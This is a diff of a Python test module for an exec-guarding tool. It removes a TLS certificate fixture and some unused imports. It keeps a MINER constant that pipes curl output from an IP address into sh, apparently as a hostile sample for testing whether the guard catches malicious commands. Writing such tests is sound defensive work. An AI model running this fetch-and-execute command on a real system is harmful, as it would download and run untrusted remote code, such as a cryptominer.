@@ -27,19 +27,12 @@ import orjson
 import pytest
 
 from execguard.testing import reviews
-from execguard.testing.dockerd import DockerdUnavailable, TLSFiles, free_port, make_test_certs
+from execguard.testing.dockerd import TLSFiles, free_port
 
 MINER = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]
 CLIENTS = 4
 ANSWERS_BEFORE_SIGNAL = 400  # answered reviews before the signal: the server is busy when it comes
 
-
-@pytest.fixture(scope="module")
-def certs(tmp_path_factory: pytest.TempPathFactory) -> TLSFiles:
-    try:
-        return make_test_certs(tmp_path_factory.mktemp("certs"))
-    except DockerdUnavailable as exc:
-        pytest.skip(str(exc))
 
 
 class UnixConnection(http.client.HTTPConnection):
